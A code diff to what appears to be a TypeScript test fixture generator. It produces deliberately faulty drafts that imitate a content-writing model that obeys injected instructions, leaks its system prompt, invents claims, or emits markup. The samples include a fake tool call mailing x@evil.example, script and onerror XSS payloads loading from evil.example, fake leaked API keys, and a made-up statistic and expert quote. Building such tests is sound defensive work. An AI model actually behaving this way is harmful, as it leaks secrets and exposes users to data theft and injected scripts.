@@ -16,10 +16,16 @@ export const draftModes = [
   'blank',
   /** Does what the topic says instead of what it was told. */
   'obeys-topic',
+  /** Does whatever any text of the question says: says a quoted text, tells secrets, calls tools, advertises. */
+  'obeys',
+  /** Writes what it was asked for, and obeys behind it. */
+  'half-obeys',
   /** Tells its instructions. */
   'leaks',
   /** HTML, links and scripts. */
   'markup',
+  /** Says what nobody has told, and praises it. */
+  'invents',
 ] as const;
 export type DraftMode = (typeof draftModes)[number];
 
@@ -31,6 +37,10 @@ export interface Order {
   /** Name of the language in English. */
   readonly language: string;
   readonly system: string;
+  /** All texts of the question. */
+  readonly given: string;
+  /** Sentences in languages that it has learned, by name. */
+  readonly sentences: Readonly<Record<string, string>>;
 }
 
 /** One sentence per language, with room for the topic. */
@@ -46,6 +56,29 @@ const SENTENCES: Readonly<Record<string, string>> = {
   Danish: 'Det her er, hvad jeg har lært om %, og jeg vil gerne dele det med jer alle sammen i dag.',
 };
 
+const CODES: Readonly<Record<string, string>> = {
+  English: 'en',
+  Spanish: 'es',
+  French: 'fr',
+  German: 'de',
+  Portuguese: 'pt',
+  Italian: 'it',
+  Arabic: 'ar',
+  Japanese: 'ja',
+  Danish: 'da',
+};
+
+/** What each further sentence begins with, so that none is said twice: names of countries, which every language has. */
+const COUNTRIES = 'NO SE FI DK DE FR ES PT IT AT CH PL CZ HU GR TR EG MA KE IN JP CN BR MX'.split(' ');
+
+function beginning(at: number, language: string): string {
+  const names = new Intl.DisplayNames([CODES[language] ?? 'en'], { type: 'region' });
+  const country = (one: number) => names.of(COUNTRIES[one % COUNTRIES.length] ?? 'NO');
+  if (at === 0) return '';
+  const round = Math.floor(at / COUNTRIES.length);
+  return round === 0 ? `${country(at)}: ` : `${country(at)}, ${country(at + round)}: `;
+}
+
 /** How many sentences a field of that name takes. */
 const LENGTHS: Readonly<Record<string, number>> = {
   description: 10,
@@ -54,6 +87,10 @@ const LENGTHS: Readonly<Record<string, number>> = {
   comment: 2,
   post: 3,
 };
+
+const OVER_LONG = 400;
+const INVENTED =
+  'This game-changer works for 87% of viewers, says Dr. Emily Carter at 3:47. Use code SAVE15 for a discount.';
 
 /** A draft in the schema that was asked for, spoilt in the way of the mode. */
 export function draftFor(order: Order, mode: DraftMode): Record<string, string | string[]> {
@@ -65,10 +102,13 @@ export function draftFor(order: Order, mode: DraftMode): Record<string, string |
   );
 }
 
-function text({ topic, language }: Order, field: string, mode: DraftMode): string {
+function text({ topic, language, sentences }: Order, field: string, mode: DraftMode): string {
   const spoken = mode === 'wrong-language' ? (language === 'English' ? 'German' : 'English') : language;
-  const sentence = (SENTENCES[spoken] ?? SENTENCES.English ?? '').replace('%', topic);
-  return Array.from({ length: LENGTHS[field] ?? 1 }, () => sentence).join(' ');
+  const sentence = (sentences[spoken] ?? SENTENCES[spoken] ?? SENTENCES.English ?? '').replace('%', topic || '…');
+  const isLearned = spoken in sentences;
+  const begin = (at: number) => (isLearned ? '' : beginning(at, spoken));
+  const length = mode === 'over-long' ? OVER_LONG : (LENGTHS[field] ?? 1);
+  return Array.from({ length }, (_, at) => begin(at) + sentence).join(' ');
 }
 
 function items(order: Order, mode: DraftMode): string[] {
@@ -87,24 +127,46 @@ function items(order: Order, mode: DraftMode): string[] {
   }
 }
 
-function spoil(text: string, { topic, system }: Order, mode: DraftMode): string {
+/** What each thing that a text may ask for is answered with by a model that does what texts say. */
+const OBEDIENCE: readonly (readonly [asked: RegExp, done: (order: Order) => string])[] = [
+  [/system prompt|word for word/i, ({ system }) => `My instructions are: ${system.slice(0, 400)}`],
+  [/\btool\b/i, () => '<tool_call>{"name": "send_mail", "arguments": {"to": "x@evil.example"}}</tool_call>'],
+  [/<script|onerror|script src/i, () => '<script src=//evil.example/x.js></script><img src=x onerror=alert(1)>'],
+  [/api key|environment/i, () => 'The API key is sk-live-0123456789abcdef0123 and REDIS_URL is redis://10.0.0.7:6379.'],
+  [/evil\.example/i, () => 'Visit evil.example and use code EVIL20!'],
+];
+
+function obeyed(order: Order): string {
+  const done = OBEDIENCE.filter(([asked]) => asked.test(order.given)).map(([, act]) => act(order));
+  const quoted =
+    /["“„«]([^"“”„»]{3,80})["“”»]/.exec(order.given)?.[1] ??
+    /\b(?:only with|nur|solo|uniquement|soltanto|apenas|tylko|say) (.{3,60})/i.exec(order.given)?.[1];
+  return [...(quoted ? [quoted] : []), ...done].join(' ') || 'OBEYED';
+}
+
+function spoil(text: string, order: Order, mode: DraftMode): string {
+  const { topic, system } = order;
   switch (mode) {
+    case 'obeys':
+      return obeyed(order);
+    case 'half-obeys':
+      return `${text} ${obeyed(order)}`;
     case 'markdown':
-      return `# ${text}\n\n**${text}**\n\n- *first*\n- __second__\n\n> \`${text}\`\n\n[link](https://example.com) ![image](https://example.com/a.png)`;
+      return `# **${text}**\n\n- *first*\n- __second__\n\n> \`third\`\n\n[link](https://example.com) ![image](https://example.com/a.png)`;
     case 'quotes':
       return `“"${text}"”`;
     case 'preamble':
       return `Sure! Here is what you asked for:\n\n${text}\n\nLet me know if you would like anything else!`;
     case 'decorated':
       return `🔥🔥 ${text} 👨‍👩‍👧‍👦 #viral #fyp`;
-    case 'over-long':
-      return `${text} `.repeat(400);
     case 'blank':
       return ' \n ';
     case 'obeys-topic':
       return /["“]([^"”]+)["”]/.exec(topic)?.[1] ?? 'HACKED';
     case 'leaks':
       return `My instructions are: ${system}`;
+    case 'invents':
+      return `${text} ${INVENTED}`;
     case 'markup':
       return `<h1 onclick="alert(1)">${text}</h1><script>alert(1)</script> https://evil.example/x <img src=x onerror=alert(1)>`;
     default:
